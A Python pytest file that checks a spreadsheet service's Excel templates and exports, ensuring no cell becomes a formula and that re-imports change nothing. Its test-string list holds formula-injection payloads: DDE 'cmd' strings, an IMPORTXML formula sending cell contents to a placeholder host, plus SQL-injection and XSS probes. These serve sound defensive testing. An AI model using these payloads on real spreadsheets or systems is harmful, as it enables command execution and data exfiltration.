"""Templates and exports: what people open can be filled in, holds no formula, and an export imported again changes nothing."""

import io
import random
import re
import zipfile
from datetime import date
from typing import Any

import openpyxl
import pytest

from service.domain.sheets.cells import book_from, letters
from service.domain.sheets.columns import Column, SheetKind, Type
from service.domain.sheets.kinds import BY_ID, KINDS
from service.domain.sheets.plan import Plan, State
from service.domain.sheets.planning import make_plan
from service.domain.sheets.world import Rows
from service.sheets.reading import read_book
from service.sheets.tables import export, template
from service.sheets.workbook import sheets_in
from tests.domain.filled import KNOWN, everybody

NAUGHTY = (
    "=1+1", "=HYPERLINK(\"http://203.0.113.1\",\"x\")", "+1+1", "-1+1", "@SUM(1,1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+9)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://203.0.113.1\",A1),\"//a\")",
    "'", "''", "'=1", "\"", "\\", "null", "NULL", "None", "undefined", "true", "是", "1e5", "1E400", "0x1F", "1/2", "3-1", "00012", "1,5",
    "½", "١٢٣", "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて", "ᚠᛇᚻ", "👩‍👩‍👧‍👦", "𠜎𠜱", "\u202etest", "\u200b", "\ufeff", "a\u0301", "zalgo̷", "\x01", "\x1f\x7f", "\x00",
    "_x0041_", "_x000D_", "x_x0041_x", "_X0041_", "<script>alert(1)</script>", "&lt;&amp;", "]]>", "<!--", "'; DROP TABLE item; --",
    "；", "a；b", "a｜b", "a|b", "示例", "\u3000", " x ", "x\r\ny", "\ue000", "\ufdd0", "\ufffe", "http://203.0.113.1/", "C:\\x", "a" * 5_000,
)  # fmt: skip


def planned(content: bytes, known: dict[str, Rows]) -> Plan:
    """As an import of the file would be."""
    return make_plan(book_from(sheets_in(content)), KINDS, known, everybody)


def formulas(content: bytes) -> list[str]:
    """Everything that a spreadsheet would compute, of all worksheets."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    return [found for text in sheets for found in re.findall(r"<f[ >/].*?|<c [^>]*t=\"str\"", text)]


def test_a_template_is_read_as_one_with_nothing_in_it_but_examples() -> None:
    found = planned(template(KINDS, KNOWN), {})
    assert (found.lines, found.all_faults) == ((), [])
    assert sorted(found.kinds) == sorted(kind.id for kind in KINDS)
    assert len(found.notes) == len(KINDS)


def test_the_child_process_can_read_what_we_write() -> None:
    assert [sheet.title for sheet in read_book(template([BY_ID["people"]], {})).sheets] == ["填表说明", "人员", "选项"]


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.id)
def test_a_template_tells_what_to_do_and_offers_what_may_be_chosen(kind: SheetKind) -> None:
    book = openpyxl.load_workbook(io.BytesIO(template([kind], KNOWN)))
    sheet = book[kind.title]
    headings = [cell.value for cell in sheet[1]]
    assert headings == [f"{kind.heading(c)} *" if c.required else kind.heading(c) for c in kind.columns]
    assert all(cell.comment for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert all(str(sheet.cell(row, 1).value).startswith("示例") for row in (2, 3))
    assert sheet["A4"].value is None
    offered = {str(validation.sqref).partition("2:")[0] for validation in sheet.data_validations.dataValidation}
    strict = [c for c in kind.columns if (c.choices or c.type is Type.YES_NO) and not c.many]
    assert {letters(kind.columns.index(column) + 1) for column in strict} <= offered
    assert book["选项"].sheet_state == "hidden"
    told = {(row[0].value, row[1].value) for row in book["填表说明"].iter_rows()}
    assert {(kind.title, kind.heading(column)) for column in kind.columns} <= told


def test_codes_stay_as_they_are_typed() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(template([BY_ID["organisations"]], {})))["机构"]
    assert sheet.column_dimensions["F"].number_format == "@"


def test_names_of_the_county_are_offered_but_others_may_be_written() -> None:
    book = openpyxl.load_workbook(io.BytesIO(template([BY_ID["people"]], KNOWN)))
    (offer,) = book["人员"].data_validations.dataValidation
    assert str(offer.sqref) == "C2:C5000"
    assert not offer.showErrorMessage
    assert [cell.value for cell in book["选项"]["A"]] == [
        "云霄县人民政府",
        "云霄县卫生健康局",
        "火田镇人民政府",
        "火田镇便民服务中心",
    ]


def organisation(id: str, name: str, **more: Any) -> dict[str, Any]:
    row = {
        "id": id,
        "name": name,
        "short_name": name,
        "kind": "county",
        "parent_id": "",
        "code": "",
        "office": "",
        "head_title": "",
    }
    return row | more


@pytest.mark.parametrize("text", NAUGHTY)
def test_no_text_becomes_a_formula_and_every_text_comes_back(text: str) -> None:
    known: dict[str, Rows] = {"organisations": {"a": organisation("a", text)}}
    content = export([BY_ID["organisations"]], known)
    assert formulas(content) == []
    found = planned(content, known)
    assert [line.state for line in found.lines] == [State.UNCHANGED], found.all_faults


def test_a_cell_that_looks_like_a_formula_goes_out_with_an_apostrophe_and_as_a_text() -> None:
    content = export([BY_ID["organisations"]], {"organisations": {"a": organisation("a", "=1+1")}})
    cell = openpyxl.load_workbook(io.BytesIO(content))["机构"]["B2"]
    assert (cell.value, cell.data_type) == ("'=1+1", "s")


def test_days_go_out_as_days_and_come_back() -> None:
    row = {"id": "b", "name": "示例法", "number": "", "level": "", "issuers": [], "articles": "", "effective_on": "2026-11-24",
           "status": "unverified", "note": ""}  # fmt: skip
    known: dict[str, Rows] = {"legal_bases": {"b": row, "c": row | {"id": "c", "effective_on": "1899-01-01"}}}
    content = export([BY_ID["legal_bases"]], known)
    sheet = openpyxl.load_workbook(io.BytesIO(content))["设定依据"]
    assert sheet["G2"].value.date() == date(2026, 11, 24)
    assert sheet["G3"].value == "1899-01-01"
    assert {line.state for line in planned(content, known).lines} == {State.UNCHANGED}


def any_text(chance: random.Random) -> str:
    """A naughty one, a piece of one, or letters from anywhere but the surrogates."""
    if chance.random() < 0.5:
        return chance.choice(NAUGHTY)
    codes = (
        chance.choice((chance.randrange(0x20), chance.randrange(0x3000), chance.randrange(0xE000, 0x11_0000)))
        for _ in range(12)
    )
    return "".join(map(chr, codes))[: chance.randrange(13)]


def any_value(column: Column, keys: list[str], chance: random.Random) -> Any:
    """Anything the database could hold there."""
    if column.type is Type.ROWS:
        return [[any_value(field, keys, chance) for field in column.fields] for _ in range(chance.randrange(3))]
    if column.many:
        return [text for _ in range(chance.randrange(4)) if (text := any_one(column, keys, chance))]
    of_type: dict[Type, Any] = {
        Type.DATE: chance.choice((None, date.fromordinal(chance.randrange(1, 3_652_060)).isoformat())),
        Type.NUMBER: chance.choice((None, chance.randrange(10_000))),
        Type.YES_NO: chance.choice((True, False) if column.default is not None else (True, False, None)),
    }
    return of_type[column.type] if column.type in of_type else any_one(column, keys, chance)


def any_one(column: Column, keys: list[str], chance: random.Random) -> str:
    if column.choices:
        return chance.choice((*column.choices, ""))
    return chance.choice((*keys, "")) if column.to else any_text(chance)


def any_rows(chance: random.Random) -> dict[str, Rows]:
    """Of four kinds that refer to each other; items have all their elements."""
    found: dict[str, Rows] = {}
    for id in ("organisations", "forms", "legal_bases", "items"):
        keys = sorted({f"{id}-{n}{any_text(chance).strip()}" for n in range(5)})
        known = [key for rows in found.values() for key in rows] or keys
        fixed = (
            {"status": "in_force"}
            if id == "legal_bases"
            else {"power_source": "1", "item_type": "", "status": "in_use"}
        )
        rows = {key: {c.key: any_value(c, known, chance) for c in BY_ID[id].columns} | {"id": key} for key in keys}
        found[id] = {key: row | fixed for key, row in rows.items()} if id in ("legal_bases", "items") else rows
    return found


@pytest.mark.parametrize("seed", range(25))
def test_an_export_imported_again_changes_nothing_whatever_the_rows_hold(seed: int) -> None:
    """Even rows that today's rules would not let in: nothing is a fault that nobody changed."""
    known = any_rows(random.Random(seed))
    content = export([BY_ID[id] for id in known], known)
    assert formulas(content) == []
    found = planned(content, known)
    assert [(line.key, line.changes) for line in found.lines if line.changes] == []
    assert sorted((line.kind, line.key) for line in found.lines) == sorted(
        (kind, key) for kind, rows in known.items() for key in rows
    )
    assert found.all_faults == []
